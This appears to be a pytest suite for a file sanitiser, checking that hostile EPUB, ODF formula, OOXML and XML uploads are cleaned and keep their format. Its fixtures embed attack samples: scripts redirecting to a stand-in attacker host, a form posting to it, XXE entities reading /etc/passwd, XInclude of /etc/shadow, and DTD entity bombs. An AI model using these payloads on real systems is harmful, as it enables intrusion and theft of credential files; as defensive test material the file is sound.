"""Formats keep their family (issue 10): an EPUB comes back as an EPUB, an ODF formula as a
formula, an OOXML package without (or with damaged) content types as its Office type, and XML
members of an archive as XML under their own names. Every sample is generated here."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import pytest
from lxml import etree
from PIL import Image

from sanitas.engine import ooxml, opc, sanitize_file
from sanitas.engine.detect import detect, sniff
from sanitas.engine.report import Context, Rejected
from tests.engine import corpus, corpus_office, samples

OPF = "{http://www.idpf.org/2007/opf}"
DC = "{http://purl.org/dc/elements/1.1/}"
XH = "{http://www.w3.org/1999/xhtml}"
EVIL = "https://attacker.invalid"


def _run(tmp_path: Path, name: str, data: bytes, **kwargs):
    src = tmp_path / "in" / name
    src.parent.mkdir(exist_ok=True)
    src.write_bytes(data)
    out = tmp_path / "out"
    out.mkdir(exist_ok=True)
    return sanitize_file(src, out, original_name=name, workdir=tmp_path, **kwargs)


def _members(path: str | Path) -> dict[str, bytes]:
    with zipfile.ZipFile(path) as zf:
        return {info.filename: zf.read(info) for info in zf.infolist()}


def _xml(data: bytes):
    return etree.fromstring(data, etree.XMLParser(resolve_entities=False, no_network=True,
                                                  load_dtd=False))


def _kinds(result) -> set[str]:
    return {f.kind for f in result.findings}


# --- EPUB ----------------------------------------------------------------------------------

def _reopen_epub(path: str) -> tuple[dict[str, bytes], str, etree._Element]:
    """The book as a reader opens it: mimetype first and stored, the container names the OPF,
    the OPF parses and every spine entry names a manifest item whose part exists."""
    with zipfile.ZipFile(path) as zf:
        assert zf.testzip() is None
        first = zf.infolist()[0]
        assert first.filename == "mimetype" and first.compress_type == zipfile.ZIP_STORED
        assert not first.extra
        assert zf.read(first) == b"application/epub+zip"
    members = _members(path)
    container = _xml(members["META-INF/container.xml"])
    rootfiles = container.findall(".//{urn:oasis:names:tc:opendocument:xmlns:container}"
                                  "rootfile")
    assert len(rootfiles) == 1
    opf_path = rootfiles[0].get("full-path")
    package = _xml(members[opf_path])
    folder = opf_path.rpartition("/")[0]
    items = {i.get("id"): f"{folder}/{i.get('href')}" for i in package.iter(f"{OPF}item")}
    assert all(part in members for part in items.values())
    spine = [ref.get("idref") for ref in package.iter(f"{OPF}itemref")]
    assert spine and all(idref in items for idref in spine)
    for part in items.values():
        if part.endswith((".xhtml", ".ncx", ".opf", ".xml")):
            _xml(members[part])  # every XML member stays well-formed XML
    return members, opf_path, package


def _obfuscated_font_list(path: str) -> str:
    return ('<?xml version="1.0"?><encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:'
            'container" xmlns:enc="http://www.w3.org/2001/04/xmlenc#"><enc:EncryptedData>'
            '<enc:EncryptionMethod Algorithm="http://www.idpf.org/2008/embedding"/>'
            f'<enc:CipherData><enc:CipherReference URI="{path}"/></enc:CipherData>'
            "</enc:EncryptedData></encryption>")


def hostile_epub() -> bytes:
    png = io.BytesIO()
    corpus.picture().save(png, "PNG")
    chapter_one = samples.xhtml(
        '<h1 onclick="steal()">One</h1>'
        '<script type="text/javascript">document.location="' + EVIL + '"</script>'
        '<p>Visible <a href="javascript:alert(1)">trap</a> and '
        '<a href="ch2.xhtml#part">next</a> and <a href="https://example.org/">site</a>.</p>'
        f'<p><img src="{EVIL}/pixel.png" alt="tracker"/><img src="images/pic.png" alt="ok"/>'
        '<img src="images/cover.jpg" alt="cover"/></p>'
        f'<iframe src="{EVIL}/frame"></iframe><object data="{EVIL}/o.swf"></object>'
        f'<embed src="{EVIL}/e.swf"/><audio src="{EVIL}/a.mp3"/>'
        f'<form action="{EVIL}/collect"><p>Name: <input name="n"/></p>'
        '<button>Send</button></form>'
        f'<p style="background: url({EVIL}/bg.png)">styled</p>'
        '<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10">'
        '<script>alert(2)</script><image href="images/pic.png" width="5" height="5"/>'
        f'<image href="{EVIL}/svg.png" width="5" height="5"/></svg>',
        head=(f'<meta http-equiv="refresh" content="0;url={EVIL}"/><base href="{EVIL}/"/>'
              f'<link rel="stylesheet" href="{EVIL}/remote.css"/>'
              '<link rel="stylesheet" type="text/css" href="style.css"/>'
              '<style>@import url("https://attacker.invalid/i.css"); p { color: red; }</style>'))
    # EPUB 2 style: an XHTML 1.1 DOCTYPE (never loaded) and entities it would define.
    chapter_two = ('<?xml version="1.0" encoding="utf-8"?>\n<!DOCTYPE html PUBLIC "-//W3C//DTD '
                   'XHTML 1.1//EN" "http://www.w3.org/TR/xhtml11/DTD/xhtml11.dtd">\n'
                   f'<html xmlns="{samples.XHTML}"><head><title>Two</title></head><body>'
                   '<h1 id="part">Two</h1><p>A&nbsp;non-breaking&mdash;dash &amp; more.</p>'
                   "</body></html>")
    ncx = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE ncx PUBLIC "-//NISO//DTD ncx '
           '2005-1//EN" "http://www.daisy.org/z3986/2005/ncx-2005-1.dtd">\n'
           '<ncx xmlns="http://www.daisy.org/z3986/2005/ncx/" version="2005-1"><navMap>'
           '<navPoint id="n1"><navLabel><text>One</text></navLabel><content src="ch1.xhtml"/>'
           f'</navPoint><navPoint id="n2"><navLabel><text>Away</text></navLabel><content '
           f'src="{EVIL}/away.xhtml"/></navPoint></navMap></ncx>')
    css = ('@charset "utf-8";\n@import url("https://attacker.invalid/more.css");\n'
           '@font-face { font-family: Book; src: url(fonts/book.otf); }\n'
           '@font-face { font-family: Hidden; src: url(fonts/hidden.ttf); }\n'
           f'body {{ background: url({EVIL}/track.png); font-family: Book; }}\n')
    svg = ('<svg xmlns="http://www.w3.org/2000/svg" width="20" height="20">'
           '<script>alert(3)</script><rect width="10" height="10" fill="blue"/></svg>')
    files = {
        "nav.xhtml": samples.xhtml('<nav epub:type="toc"><ol><li><a href="ch1.xhtml">One</a>'
                                   '</li></ol></nav>', "Contents"),
        "ch1.xhtml": chapter_one, "ch2.xhtml": chapter_two, "toc.ncx": ncx,
        "style.css": css, "drawing.svg": svg, "app.js": "alert('EVIL')",
        "images/cover.jpg": corpus_office.jpeg_with_gps(),
        "images/pic.png": png.getvalue(),
        "images/fake.png": b"MZ this is not a picture",
        "fonts/book.otf": b"OTTO" + b"\x00" * 60,
        "fonts/hidden.ttf": b"\x00\x01\x00\x00" + b"\x00" * 60,
        "fonts/bad.ttf": b"#!/bin/sh\necho not a font\n",
    }
    items = [("nav", "nav.xhtml", "application/xhtml+xml", "nav"),
             ("ch1", "ch1.xhtml", "application/xhtml+xml", "scripted remote-resources svg"),
             ("ch2", "ch2.xhtml", "application/xhtml+xml", ""),
             ("ncx", "toc.ncx", "application/x-dtbncx+xml", ""),
             ("css", "style.css", "text/css", ""),
             ("svg", "drawing.svg", "image/svg+xml", ""),
             ("js", "app.js", "application/javascript", ""),
             ("cover", "images/cover.jpg", "image/jpeg", "cover-image"),
             ("pic", "images/pic.png", "image/png", ""),
             ("fake", "images/fake.png", "image/png", ""),
             ("book", "fonts/book.otf", "font/otf", ""),
             ("hidden", "fonts/hidden.ttf", "font/ttf", ""),
             ("bad", "fonts/bad.ttf", "font/ttf", ""),
             ("remote", f"{EVIL}/remote.xhtml", "application/xhtml+xml", ""),
             ("gone", "missing.xhtml", "application/xhtml+xml", "")]
    metadata = (
        '<dc:creator opf:role="aut" xmlns:opf="http://www.idpf.org/2007/opf">Jane Secret'
        "</dc:creator><dc:contributor>Editor Name</dc:contributor>"
        "<dc:publisher>Secret House</dc:publisher><dc:date>2021-03-04</dc:date>"
        "<dc:rights>All rights reserved to Jane</dc:rights>"
        "<dc:description>Private notes</dc:description>"
        '<dc:identifier id="isbn">urn:isbn:9780000000000</dc:identifier>'
        '<meta property="dcterms:modified">2024-05-01T10:00:00Z</meta>'
        '<meta property="rendition:layout">reflowable</meta>'
        '<meta name="cover" content="cover"/><meta name="generator" content="Secret Tool 1.0"/>'
        '<meta property="ibooks:version">1.0</meta>'
        f'<link rel="record" href="{EVIL}/record.xml" media-type="application/xml"/>')
    extra = {
        "META-INF/encryption.xml": _obfuscated_font_list("OEBPS/fonts/hidden.ttf"),
        "META-INF/signatures.xml": "<signatures/>",
        "OEBPS/stray.html": "<html><script>EVIL</script></html>",
    }
    return samples.epub_bytes(files, items, ["ch1", "ch2", "js", "gone"], metadata=metadata,
                              extra=extra, spine_attrs='toc="ncx"')


def test_a_hostile_epub_comes_back_as_a_clean_epub(tmp_path):
    result = _run(tmp_path, "novel.epub", hostile_epub())
    assert result.status == "ok", result.reason
    assert result.detected_type == "epub" and result.output_type == "epub"
    assert result.output.endswith("novel.epub")
    members, opf_path, package = _reopen_epub(result.output)
    assert opf_path == "OEBPS/content.opf"
    # XML members keep their names (no .txt, no .html)
    for name in ("OEBPS/nav.xhtml", "OEBPS/ch1.xhtml", "OEBPS/ch2.xhtml", "OEBPS/toc.ncx",
                 "OEBPS/style.css", "OEBPS/drawing.svg", "OEBPS/images/cover.jpg",
                 "OEBPS/images/pic.png", "OEBPS/fonts/book.otf"):
        assert name in members, name
    for gone in ("OEBPS/app.js", "OEBPS/images/fake.png", "OEBPS/fonts/hidden.ttf",
                 "OEBPS/fonts/bad.ttf", "OEBPS/stray.html", "META-INF/encryption.xml",
                 "META-INF/signatures.xml"):
        assert gone not in members, gone
    # the package document: only what readers need
    metadata = package.find(f"{OPF}metadata")
    kept = sorted(etree.QName(el).localname for el in metadata)
    assert kept == ["identifier", "language", "meta", "meta", "meta", "title"], kept
    assert package.get("unique-identifier") == "uid"
    assert metadata.find(f"{DC}identifier").get("id") == "uid"
    metas = {m.get("property") or m.get("name"): m for m in metadata.iter(f"{OPF}meta")}
    assert set(metas) == {"dcterms:modified", "rendition:layout", "cover"}
    assert metas["dcterms:modified"].text == "2000-01-01T00:00:00Z"
    opf_text = members[opf_path].decode()
    for secret in ("Jane", "Secret", "Editor", "9780000000000", "Private", "2021",
                   "attacker.invalid", "scripted", "remote-resources"):
        assert secret not in opf_text, secret
    ids = [i.get("id") for i in package.iter(f"{OPF}item")]
    assert ids == ["nav", "ch1", "ch2", "ncx", "css", "svg", "cover", "pic", "book"]
    assert [r.get("idref") for r in package.iter(f"{OPF}itemref")] == ["ch1", "ch2"]
    assert package.find(f"{OPF}spine").get("toc") == "ncx"
    assert package.find(f".//{OPF}item[@id='ch1']").get("properties") == "svg"
    # the chapters: no script, handler, remote load, form or frame; the book's own links stay
    one = members["OEBPS/ch1.xhtml"]
    for bad in (b"<script", b"onclick", b"javascript:", b"attacker.invalid", b"<iframe",
                b"<object", b"<embed", b"<form", b"<input", b"<button", b"refresh", b"<base"):
        assert bad not in one, bad
    root = _xml(one)
    assert root.tag == f"{XH}html"
    assert [a.get("href") for a in root.iter(f"{XH}a") if a.get("href")] == [
        "ch2.xhtml#part", "https://example.org/"]
    assert [i.get("src") for i in root.iter(f"{XH}img")] == [
        None, "images/pic.png", "images/cover.jpg"]
    assert [link.get("href") for link in root.iter(f"{XH}link")] == ["style.css"]
    assert b"Visible" in one and b"Name:" in one  # the form's text stays
    assert b'href="images/pic.png"' in one  # inline SVG keeps the book's picture
    two = members["OEBPS/ch2.xhtml"]
    assert b"<!DOCTYPE" not in two and "A\u00a0non-breaking\u2014dash &amp; more".encode() in two
    ncx = members["OEBPS/toc.ncx"]
    assert b"<!DOCTYPE" not in ncx and b"attacker" not in ncx and b'src="ch1.xhtml"' in ncx
    css = members["OEBPS/style.css"].decode()
    assert "@import" not in css and "attacker" not in css and "@charset" not in css
    assert "url(fonts/book.otf)" in css  # the book's own font stays referenced
    assert b"<script" not in members["OEBPS/drawing.svg"]
    cover = Image.open(io.BytesIO(members["OEBPS/images/cover.jpg"]))
    assert cover.format == "JPEG" and 0x8825 not in cover.getexif()  # GPS gone
    assert members["OEBPS/fonts/book.otf"].startswith(b"OTTO")
    kinds = _kinds(result)
    for kind in ("javascript", "event_handler", "external_reference", "form", "metadata",
                 "obfuscated_font", "invalid_font", "invalid_image", "signature",
                 "unreferenced_part", "missing_resource", "exif"):
        assert kind in kinds, (kind, sorted(kinds))


def test_a_clean_epub_keeps_its_content(tmp_path):
    result = _run(tmp_path, "clean.epub", samples.clean_epub())
    assert result.status == "ok", result.reason
    members, _opf_path, _package = _reopen_epub(result.output)
    # only the modification date, replaced by a fixed one, is reported
    assert [(f.kind, f.detail) for f in result.findings] == [
        ("metadata", "removed: modification date")]
    original = _members(io.BytesIO(samples.clean_epub()))
    assert set(members) == set(original)
    for name in ("OEBPS/ch1.xhtml", "OEBPS/ch2.xhtml", "OEBPS/nav.xhtml"):
        before, after = _xml(original[name]), _xml(members[name])
        assert etree.tostring(before, method="c14n") == etree.tostring(after, method="c14n")
    assert members["OEBPS/style.css"] == original["OEBPS/style.css"]
    assert Image.open(io.BytesIO(members["OEBPS/images/cover.png"])).size == (200, 100)


def test_epub_detection_and_a_mimetype_that_is_not_first(tmp_path):
    book = samples.clean_epub()
    path = tmp_path / "b.bin"
    path.write_bytes(book)
    assert detect(path, "b.bin").kind == "epub"
    assert sniff(book[:64], "novel.epub").kind == "epub"  # provisional, by name
    late = samples.epub_bytes({"c.xhtml": samples.xhtml("<p>late</p>")},
                              [("c", "c.xhtml", "application/xhtml+xml", "")], ["c"],
                              mimetype_first=False)
    result = _run(tmp_path, "late.epub", late)
    assert result.status == "ok" and result.detected_type == "epub", result.reason
    _reopen_epub(result.output)
    assert ("structure", "mimetype") in {(f.kind, f.location) for f in result.findings}


def test_a_drm_protected_epub_is_refused(tmp_path):
    drm = ('<?xml version="1.0"?><encryption xmlns="urn:oasis:names:tc:opendocument:xmlns:'
           'container" xmlns:enc="http://www.w3.org/2001/04/xmlenc#" '
           'xmlns:ds="http://www.w3.org/2000/09/xmldsig#"><enc:EncryptedData>'
           '<enc:EncryptionMethod Algorithm="http://www.w3.org/2001/04/xmlenc#aes128-cbc"/>'
           '<ds:KeyInfo><ds:RetrievalMethod URI="#EK"/></ds:KeyInfo><enc:CipherData>'
           '<enc:CipherReference URI="OEBPS/c.xhtml"/></enc:CipherData></enc:EncryptedData>'
           "</encryption>")
    book = samples.epub_bytes({"c.xhtml": b"\x8f\x11 encrypted bytes"},
                              [("c", "c.xhtml", "application/xhtml+xml", "")], ["c"],
                              extra={"META-INF/encryption.xml": drm,
                                     "META-INF/rights.xml": "<rights/>"})
    result = _run(tmp_path, "drm.epub", book)
    assert result.status == "rejected" and result.code == "encrypted", result.reason
    assert "DRM" in result.reason


def test_an_epub_with_nothing_readable_left_is_refused(tmp_path):
    book = samples.epub_bytes({"c.js": "alert(1)"}, [("c", "c.js", "text/javascript", "")], ["c"])
    result = _run(tmp_path, "empty.epub", book)
    assert result.status == "rejected" and result.code == "no_content"


def test_an_epub_chapter_that_is_not_well_formed_is_rebuilt_as_xhtml(tmp_path):
    broken = ('<html xmlns="http://www.w3.org/1999/xhtml"><body><p>Open paragraph<br>'
              "<p>Second & last<script>alert(1)</script></body></html>")
    book = samples.epub_bytes({"c.xhtml": broken},
                              [("c", "c.xhtml", "application/xhtml+xml", "")], ["c"])
    result = _run(tmp_path, "broken.epub", book)
    assert result.status == "ok", result.reason
    members, _opf, _package = _reopen_epub(result.output)
    chapter = _xml(members["OEBPS/c.xhtml"])
    assert chapter.tag == f"{XH}html" and b"<script" not in members["OEBPS/c.xhtml"]
    assert "Second & last" in "".join(chapter.itertext())
    assert ("structure", "OEBPS/c.xhtml") in {(f.kind, f.location) for f in result.findings}


def test_an_epub_inside_a_zip_stays_an_epub(tmp_path):
    archive = corpus.zip_bytes({"books/novel.epub": samples.clean_epub(),
                                "readme.txt": b"two files\n"})
    result = _run(tmp_path, "bundle.zip", archive)
    assert result.status == "ok", result.reason
    members = _members(result.output)
    assert set(members) == {"books/novel.epub", "readme.txt"}
    inner = tmp_path / "inner.epub"
    inner.write_bytes(members["books/novel.epub"])
    _reopen_epub(str(inner))


# --- ODF formula ---------------------------------------------------------------------------

def _math_elements(data: bytes) -> list[tuple[str, str]]:
    root = _xml(data)
    return [(etree.QName(el).localname, (el.text or "").strip()) for el in root.iter()
            if isinstance(el.tag, str)]


def test_an_odf_formula_keeps_its_mathml(tmp_path):
    result = _run(tmp_path, "pythagoras.odf", samples.odf_formula())
    assert result.status == "ok", result.reason
    assert result.detected_type == "odf" and result.output_type == "odf"
    members = _members(result.output)
    assert next(iter(members)) == "mimetype"
    assert members["mimetype"] == b"application/vnd.oasis.opendocument.formula"
    before = samples.FORMULA_CONTENT.encode()
    assert _math_elements(members["content.xml"]) == _math_elements(before)
    assert _xml(members["content.xml"]).tag == f"{{{samples.MATHML}}}math"
    assert {f.kind for f in result.findings} == {"metadata"}  # meta.xml reset only


def test_an_old_formula_with_its_mathml_doctype_and_a_hostile_link(tmp_path):
    content = ('<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE math:math PUBLIC '
               '"-//OpenOffice.org//DTD Modified W3C MathML 1.01//EN" "math.dtd">\n'
               f'<math:math xmlns:math="{samples.MATHML}"><math:semantics><math:mrow '
               'href="javascript:alert(1)"><math:mi>x</math:mi><math:mglyph src="'
               f'{EVIL}/g.png"/></math:mrow></math:semantics></math:math>')
    result = _run(tmp_path, "old.odf", samples.odf_formula(content))
    assert result.status == "ok", result.reason
    out = _members(result.output)["content.xml"]
    assert b"DOCTYPE" not in out and b"javascript" not in out and b"attacker" not in out
    assert [n for n, _ in _math_elements(out)] == ["math", "semantics", "mrow", "mi", "mglyph"]
    # any other DOCTYPE is still an attack
    evil = content.replace("math.dtd\">", "math.dtd\" [<!ENTITY x 'y'>]>")
    refused = _run(tmp_path, "evil.odf", samples.odf_formula(evil))
    assert refused.status == "rejected" and refused.code == "unsafe_structure"


# --- OOXML without usable content types ----------------------------------------------------

def _rezip(package: bytes, replace: dict[str, bytes] | None = None, drop=()) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(package)) as src, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            if info.filename in drop:
                continue
            dst.writestr(info.filename, (replace or {}).get(info.filename, src.read(info)))
    return out.getvalue()


def _check_types(members: dict[str, bytes], main: str, main_type: str) -> None:
    types = _xml(members["[Content_Types].xml"])
    overrides = {o.get("PartName"): o.get("ContentType").lower() for o in types
                 if o.tag.endswith("Override")}
    assert overrides[f"/{main}"] == main_type.lower()
    return overrides


@pytest.mark.parametrize("how", ["missing", "damaged"])
def test_a_docx_without_usable_content_types_is_repaired(tmp_path, how):
    docx = corpus_office.clean_docx()
    broken = (_rezip(docx, drop=("[Content_Types].xml",)) if how == "missing" else
              _rezip(docx, {"[Content_Types].xml": b"<Types><Default Extension="}))
    path = tmp_path / "x.bin"
    path.write_bytes(broken)
    assert detect(path, "report.docx").kind == "docx"  # the structure decides, not "zip"
    result = _run(tmp_path, "report.docx", broken)
    assert result.status == "ok", result.reason
    assert result.detected_type == "docx" and result.output_type == "docx"
    assert ("structure", "[Content_Types].xml", "converted",
            "content types rebuilt from the part names") in {
        (f.kind, f.location, f.action, f.detail) for f in result.findings}
    members = _members(result.output)
    overrides = _check_types(members, "word/document.xml", formats_main("docx"))
    assert overrides["/word/styles.xml"].endswith("wordprocessingml.styles+xml")
    original = _members(io.BytesIO(docx))
    assert b"Grid" in members["word/document.xml"] or \
        _xml(members["word/document.xml"]).tag == _xml(original["word/document.xml"]).tag
    assert "word/media/image1.png" in members or not any(
        n.startswith("word/media/") for n in original)


def formats_main(kind: str) -> str:
    from sanitas.engine import formats

    return formats.kind(kind).main_type


def test_an_xlsx_without_content_types_is_repaired(tmp_path):
    broken = _rezip(corpus_office.clean_xlsx(), drop=("[Content_Types].xml",))
    result = _run(tmp_path, "sheet.xlsx", broken)
    assert result.status == "ok", result.reason
    assert result.detected_type == "xlsx" and result.output_type == "xlsx"
    members = _members(result.output)
    overrides = _check_types(members, "xl/workbook.xml", formats_main("xlsx"))
    sheets = [n for n in overrides if n.startswith("/xl/worksheets/")]
    assert sheets and all(overrides[s].endswith("spreadsheetml.worksheet+xml") for s in sheets)
    assert all(s[1:] in members for s in sheets)


def test_content_types_that_miss_the_main_part_are_restored(tmp_path):
    docx = corpus_office.clean_docx()
    types = _members(io.BytesIO(docx))["[Content_Types].xml"].replace(
        formats_main("docx").encode(), b"application/xml")
    result = _run(tmp_path, "report.docx", _rezip(docx, {"[Content_Types].xml": types}))
    assert result.status == "ok" and result.output_type == "docx", result.reason
    _check_types(_members(result.output), "word/document.xml", formats_main("docx"))
    assert "structure" in _kinds(result)


def test_the_main_part_root_names_the_kind():
    w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
    assert opc.kind_of_root(f'<?xml version="1.0"?><w:document xmlns:w="{w}">'.encode()) \
        == "docx"
    assert opc.kind_of_root(b'<workbook xmlns="http://purl.oclc.org/ooxml/spreadsheetml/'
                            b'main"><sheets>') == "xlsx"
    assert opc.kind_of_root(b'<p:presentation xmlns:p="http://schemas.openxmlformats.org/'
                            b'presentationml/2006/main"/>') == "pptx"
    assert opc.kind_of_root(b'<document xmlns="urn:other"/>') is None
    assert opc.kind_of_root(b"not xml at all") is None


def test_a_pptx_without_content_types_is_detected_as_pptx(tmp_path):
    rels = corpus_office._rels([("rId1", f"{corpus_office.R}/officeDocument",
                                 "ppt/presentation.xml")])
    package = corpus_office._zip({
        "_rels/.rels": rels,
        "ppt/presentation.xml": '<p:presentation xmlns:p="http://schemas.openxmlformats.org/'
                                'presentationml/2006/main"/>'})
    path = tmp_path / "deck.bin"
    path.write_bytes(package)
    assert detect(path, "deck.bin").kind == "pptx"


def test_a_hopeless_package_is_refused_as_damaged(tmp_path):
    docx = corpus_office.clean_docx()
    hopeless = _rezip(docx, {"word/document.xml": b"<notes>no office document</notes>"},
                      drop=("[Content_Types].xml",))
    result = _run(tmp_path, "report.docx", hopeless)
    assert result.status == "rejected" and result.code == "damaged", result.reason
    assert "Content_Types" in result.reason
    src = tmp_path / "hopeless.docx"
    src.write_bytes(hopeless)
    with pytest.raises(Rejected) as refused:
        ooxml.sanitize(src, tmp_path / "o.docx", Context(workdir=tmp_path), "docx")
    assert refused.value.code == "damaged" and "cannot be repaired" in refused.value.reason
    missing_main = _rezip(docx, drop=("[Content_Types].xml", "word/document.xml"))
    result = _run(tmp_path, "gone.docx", missing_main)
    assert result.status == "rejected" and result.code == "damaged"
    # a DTD in the content types is an attack, never repaired
    lol = (b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "aaaa">]><Types xmlns="http://'
           b'schemas.openxmlformats.org/package/2006/content-types">&a;</Types>')
    result = _run(tmp_path, "lol.docx", _rezip(docx, {"[Content_Types].xml": lol}))
    assert result.status == "rejected" and result.code == "unsafe_structure"


def test_a_zip_that_is_not_an_office_package_stays_a_zip(tmp_path):
    plain = corpus.zip_bytes({"_rels/notes.txt": b"hello\n", "word/document.txt": b"hi\n"})
    path = tmp_path / "p.zip"
    path.write_bytes(plain)
    assert detect(path, "p.zip").kind == "zip"


# --- XML, at the top and inside archives ---------------------------------------------------

CONFIG_XML = (b'<?xml version="1.0" encoding="ISO-8859-1"?>\n'
              b'<?xml-stylesheet type="text/xsl" href="https://attacker.invalid/x.xsl"?>\n'
              b'<!DOCTYPE config [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>\n'
              b'<config xmlns:xi="http://www.w3.org/2001/XInclude" '
              b'xmlns:h="http://www.w3.org/1999/xhtml"><name>caf\xe9</name><leak>&xxe;</leak>'
              b'<xi:include href="file:///etc/shadow"/>'
              b'<h:div><h:script>alert(1)</h:script><h:p onclick="x()">shown</h:p></h:div>'
              b'<link href="javascript:alert(2)">label</link></config>')


def test_a_zip_keeps_its_xml_members_as_xml(tmp_path):
    archive = corpus.zip_bytes({
        "data.xml": samples.XML_SAMPLE.encode(),
        "conf/settings.xml": CONFIG_XML,
        "notes.md": b"# Notes\n\nplain markdown\n",
        "broken.xml": b'<?xml version="1.0"?><open><unclosed></open>',
        "renamed.xml": b"just some words, not markup\n",
    })
    result = _run(tmp_path, "bundle.zip", archive)
    assert result.status == "ok", result.reason
    members = _members(result.output)
    # Markdown is a kind of its own: it stays notes.md (cleaned as Markdown, not renamed)
    assert set(members) == {"data.xml", "conf/settings.xml", "notes.md", "renamed.txt"}
    assert members["notes.md"].startswith(b"# Notes")
    data = _xml(members["data.xml"])
    assert [e.tag for e in data.iter()] == ["catalog", "book", "title", "price"]
    settings = members["conf/settings.xml"]
    assert settings.startswith(b"<?xml version='1.0' encoding='UTF-8'?>")
    for bad in (b"xml-stylesheet", b"DOCTYPE", b"ENTITY", b"xxe", b"passwd", b"shadow",
                b"include", b"script", b"onclick", b"javascript"):
        assert bad not in settings, bad
    assert "café".encode() in settings and b"shown" in settings and b"label" in settings
    renames = {f.location: f.detail for f in result.findings if f.kind == "renamed"}
    assert set(renames) == {"renamed.xml"}
    dropped = {f.location for f in result.findings if f.kind == "archive_member"}
    assert dropped == {"broken.xml"}


def test_a_top_level_xml_upload_stays_xml(tmp_path):
    result = _run(tmp_path, "config.xml", CONFIG_XML)
    assert result.status == "ok", result.reason
    assert result.detected_type == "xml" and result.output_type == "xml"
    assert result.output.endswith("config.xml")
    assert {"processing_instruction", "xml_entities", "external_reference", "javascript",
            "event_handler", "encoding"} <= _kinds(result)
    broken = _run(tmp_path, "broken.xml", b'<?xml version="1.0"?><table><row></table>')
    assert broken.status == "rejected" and broken.code == "damaged"
    assert "well-formed" in broken.reason


@pytest.mark.parametrize("text,kind", [
    ('<?xml version="1.0"?><root/>', "xml"),
    ("<?xml version='1.0' encoding='utf-8'?>\n<data><row a='1'/></data>", "xml"),
    ("<catalog>\n <item>1</item>\n</catalog>\n", "xml"),
    ('<item id="7"/>', "xml"),
    ('<?xml version="1.0"?><table><row/></table>', "xml"),  # declared: data, not a page
    ("<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><p/></html>", "html"),
    ("<note>to self", "txt"),  # prose that starts with a tag
    ("<svgx>", "txt"),
    ("<p>html</p>", "html"),
    ('<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', "svg"),
    ("a,b\n1,2\n", "csv"),
])
def test_xml_detection(text, kind):
    assert sniff(text.encode(), "upload").kind == kind


def test_a_big_xml_file_without_a_declaration_is_text():
    # only what the head shows decides: without a declaration the end must be seen
    text = "<log>" + "entry\n" * 20000 + "</log>"
    assert sniff(text.encode()[:65536], "upload", size=len(text)).kind == "txt"
    assert sniff(('<?xml version="1.0"?>' + text).encode()[:65536], "upload",
                 size=len(text) + 21).kind == "xml"
